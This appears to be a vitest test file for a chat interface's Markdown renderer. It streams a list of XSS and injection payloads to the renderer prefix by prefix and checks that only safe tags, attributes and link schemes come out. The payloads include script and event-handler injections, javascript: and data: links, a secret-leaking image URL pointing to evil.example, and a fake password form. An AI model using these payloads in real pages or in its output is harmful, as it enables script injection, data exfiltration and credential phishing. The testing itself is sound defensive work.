/** What a model may say to do harm: markup, scripts, things that call home. Every prefix of every case, as it would stream. */

import { Copy } from "lucide-react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";

import { Markdown } from "../src/components/markdown/Markdown";

const OUR_ICON = renderToStaticMarkup(<Copy aria-hidden />);

const CASES = [
  "<script>alert(1)</script>",
  "text <img src=x onerror=alert(1)> text",
  "<iframe src=\"https://evil.example/\"></iframe>\n\n<svg onload=alert(1)>",
  "<a href=\"javascript:alert(1)\" style=\"position:fixed;inset:0\">here</a>",
  "[click](javascript:alert(1)) [me](JaVaScRiPt:alert(1)) [too](&#106;avascript:alert(1)) [now](\tjavascript:alert(1))",
  "[data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x) [file](file:///etc/passwd)",
  "![secret](https://evil.example/leak?q=secret) ![](data:image/svg+xml,<svg onload=alert(1)>)",
  "![a][ref]\n\n[ref]: https://evil.example/pixel.png \"title\"",
  "<style>@import url(https://evil.example/a.css)</style>\n\n<link rel=stylesheet href=//evil.example/a.css>",
  "<!-- comment --><base href=https://evil.example/>\n<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
  "```html\n<script>alert(1)</script>\n```\n~~~\" onload=\"x\n<b>\n",
  "```\"><img src=x onerror=alert(1)>\nx",
  "**<b onclick=alert(1)>** `<script>` *[x](javascript:alert(1)",
  "<https://evil.example/auto> https://evil.example/plain www.evil.example mailto:a@b.c",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "$$\\href{javascript:alert(1)}{x} \\url{https://evil.example} \\includegraphics{https://evil.example/x.png} \\htmlStyle{position:fixed}{x}$$",
  "\\[ <img src=x onerror=alert(1)> \\] and \\( <script>alert(1)</script> \\) and $<b onclick=x>$",
  "<document name=\"x\" characters=\"5\">\n<b>\n</document>\n\n<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "[a]: javascript:alert(1)\n[b]: <data:text/html,x> 'onmouseover=x'\n\n[a] [b] ![a] ![b][b]",
];

const ELEMENTS = new Set(
  "div p a em strong del code pre figure figcaption span button table thead tbody tr th td ul ol li input blockquote h1 h2 h3 h4 h5 h6 hr br sup section".split(" "),
);

describe.each(CASES)("%s", (text) => {
  test.each([true, false])("is harmless at every length, growing: %s", (growing) => {
    for (let end = 1; end <= text.length; end++) {
      const html = renderToStaticMarkup(<Markdown text={text.slice(0, end)} growing={growing} />).replaceAll(OUR_ICON, "");
      for (const [tag, name, attributes] of html.matchAll(/<([a-z0-9]+)((?:\s[^<>]*)?)>/g)) {
        expect(ELEMENTS, tag).toContain(name);
        expect(attributes, tag).not.toMatch(/\s(on\w+|style|src|srcset|srcdoc|action|formaction|background|poster)=/);
        for (const [, href] of (attributes ?? "").matchAll(/\shref="([^"]*)"/g)) expect(href, tag).toMatch(/^(https?:|mailto:|#|$)/);
      }
    }
  });
});
